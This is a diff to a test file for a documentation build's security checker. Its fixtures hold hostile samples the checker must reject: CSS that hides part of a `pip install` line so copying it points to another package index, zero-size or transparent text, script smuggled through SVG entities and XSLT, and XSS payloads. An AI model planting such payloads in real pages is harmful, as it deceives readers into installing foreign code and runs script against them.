@@ -419,13 +419,46 @@ def test_data_copy_on_a_code_block_fails_the_build(tmp_path):
         assert f"docs/install.md:{line}: data-copy on <{tag}>: {THEME_WHY}" in result.stderr, result.stderr[-3000:]
 
 
+STYLE_WHY = "a page's content carries no CSS of its own"
+
+
+@pytest.mark.build
+def test_a_pages_own_css_fails_the_build_with_file_and_line(tmp_path):
+    """Security re-review 2, P1: a page's <style> hid a token only while Material's copy button was not
+    copying, so the reader saw `pip install qkv` and the clipboard got another index. P4: a style="display:none"
+    split a number the prose check read as 0.x1192, and ::after { content } drew one it never read."""
+    page = """\
+    # Install
+
+    <style>.highlight code:not([data-md-copying]) .s1 { display: none }</style>
+
+    ```bash
+    pip install qkv '--index-url=https://pypi.example.invalid/simple'
+    ```
+
+    The weight is 0.<span style="display:none">x</span>1192.
+
+    | token | weight |
+    |:------|-------:|
+    | bank  | 1      |
+    """
+    result, _ = build(tmp_path, {"install.md": page}, config=SITE_MARKDOWN)
+    assert result.returncode != 0
+    err = result.stderr
+    assert f"docs/install.md:3: <style>: {STYLE_WHY}" in err, err[-3000:]
+    assert f'docs/install.md:9: style="display:none" on <span>: {STYLE_WHY}' in err, err[-3000:]
+    assert "text-align" not in err  # the table's alignment is the Markdown's own
+
+
 STATIC_WHY = "a file under docs/ that is not a page is copied to the site as it is"
 
 
 @pytest.mark.build
 def test_a_script_in_a_static_html_or_svg_file_fails_the_build_naming_the_file(tmp_path):
     """Review N3: an .html or .svg file under docs/ was copied as it is, its script live on the
-    site's origin with no Content-Security-Policy (an SVG opened in its own tab, an HTML demo)."""
+    site's origin with no Content-Security-Policy (an SVG opened in its own tab, an HTML demo).
+    Re-review 2, P2 and P3: an SVG entity spelled the script with character references, and an
+    .xml's <?xml-stylesheet?> named an XSLT that built one; Chromium ran both, and neither file held "<script"."""
     files = {
         "demo.html": (
             "<!doctype html>\n<html><head><title>Demo</title></head>\n<body><h1>Attention demo</h1>\n"
@@ -440,6 +473,17 @@ def test_a_script_in_a_static_html_or_svg_file_fails_the_build_naming_the_file(t
             '<s:svg xmlns:s="http://www.w3.org/2000/svg">\n<s:script>alert(1)</s:script>\n'
             '<s:a href="x"><s:set attributeName="href" to="javascript:alert(2)"/></s:a></s:svg>\n'
         ),
+        "img/entity.svg": (
+            '<?xml version="1.0"?>\n<!DOCTYPE svg [\n'
+            '<!ENTITY s "&#60;script&#62;document.documentElement.dataset.pwned=21&#60;/script&#62;">\n'
+            ']>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">&s;</svg>\n'
+        ),
+        "data/x.xml": '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="t.xsl"?>\n<doc>hi</doc>\n',
+        "data/t.xsl": (
+            '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n'
+            "<xsl:template match=\"/\"><xsl:element name=\"{concat('scr','ipt')}\">go()</xsl:element></xsl:template>\n"
+            "</xsl:stylesheet>\n"
+        ),
         "p.md": "# Page\n\nSee [the demo](demo.html) and ![a figure](img/figure.svg).\n",
     }
     result, _ = build(tmp_path, files)
@@ -453,6 +497,8 @@ def test_a_script_in_a_static_html_or_svg_file_fails_the_build_naming_the_file(t
         ("docs/img/prefixed.svg:3", "a javascript: URL in <s:set to>"),
     ]:
         assert f"{where}: {what}: {STATIC_WHY}" in err, f"{where}:\n{err[-3000:]}"
+    assert "docs/img/entity.svg:3: <!ENTITY: a browser expands an XML entity into markup" in err, err[-3000:]
+    assert "docs/data/x.xml:2: <?xml-stylesheet: a browser runs the XSLT it names" in err, err[-3000:]
 
 
 @pytest.mark.build
@@ -516,10 +562,8 @@ def test_a_remote_image_in_a_notebook_fails_the_build_naming_the_notebook(tmp_pa
         -3000:
     ]
     assert "docs/notebooks/remote.py:4: <img src='https://cdn.example/plot.png'> loads from another host (built" in err
-    assert (
-        "docs/notebooks/remote.py:9: style attribute url('https://cdn.example/s.png') loads from another host (built"
-        in err
-    )
+    # A style attribute is CSS of the notebook's own: the sanitiser drops it, url() and all (re-review 2, P1).
+    assert "cdn.example/s.png" not in err
 
 
 def elements(html: str) -> list[tuple[str, list]]:
@@ -622,6 +666,16 @@ def test_the_policy_hashes_each_inline_script_as_the_browser_does():
         safety.with_csp("<p>x</p>", "t.html")
 
 
+def test_a_notebook_keeps_only_the_alignment_of_its_style_attributes():
+    """Security re-review 2, P1: CSS of a notebook's own could hide text the copy button copies."""
+    cleaned = safety._clean(
+        '<pre><code>pip install qkv<span style="font-size:0"> evil</span></code></pre>'
+        '<table><tr><td style="text-align: right">1</td></tr></table><style>.s1 { display: none }</style>'
+    )
+    assert "font-size" not in cleaned and "<style" not in cleaned and "display" not in cleaned
+    assert 'style="text-align: right"' in cleaned and "<span> evil</span>" in cleaned
+
+
 def test_a_changed_mkdocs_jupyter_template_is_reported():
     with pytest.raises(
         ValueError, match=r"docs/notebooks/x\.py: no <div class=\"jupyter-wrapper\"> .* its template changed"
@@ -652,18 +706,25 @@ def test_a_changed_mkdocs_jupyter_template_is_reported():
         # Where Python's parser reads text and a browser markup: a comment closed by --!>, a <style> in <svg>.
         ("<p><!-- x --!><script>alert(1)</script> --></p>", "'<script'"),
         ("<svg><style><img src=x onerror=alert(1)></style></svg>", "'onerror'"),
+        # A page's own CSS (security re-review 2, P1 and P4).
+        ("<style>code:not([data-md-copying]) .s1 { display: none }</style>", "<style>"),
+        ("<svg><svg:style>.w::after { content: '0.6652' }</svg:style></svg>", "<svg:style>"),
+        ('<pre><code>pip install qkv<span style="font-size:0"> evil</span></code></pre>', 'style="font-size:0" on'),
+        ('<td style="text-align: right; color: transparent">1</td>', 'style="text-align: right; color: transparent"'),
+        ("<p><!-- x --!><b style='font-size:0'>y</b> --></p>", "'style=font-size:0'"),
     ],
 )
 def test_each_kind_of_page_code_is_found_in_the_built_html(content, what):
     problems = safety.page_code(content, "docs/x.md", f"# X\n\n{content}\n")
-    assert problems and problems[0].startswith(f"docs/x.md:3: {what}"), problems
+    assert any(problem.startswith(f"docs/x.md:3: {what}") for problem in problems), problems
 
 
 def test_shown_code_tabs_and_plain_links_are_not_page_code():
     content = (
         '<p><code>&lt;script&gt;x()&lt;/script&gt;</code> <a href="https://example.org/javascript:">a</a></p>'
         '<div class="tabbed-set"><input id="__tabbed_1_1" name="__tabbed_1" type="radio"></div>'
-        '<div class="qkv-widget" data-widget="positions"></div>'
+        '<div class="qkv-widget" data-widget="positions" style="min-height: 22rem; --qkv-phone-min-height: 25rem">'
+        '</div><table><tr><th style="text-align: left;">a</th><td style="text-align:right">1</td></tr></table>'
         '<p>Set <code>data-md-color-scheme="slate"</code>; the runner is JavaScript: x = javascript: no.</p>'
     )
     assert safety.page_code(content, "docs/x.md") == []
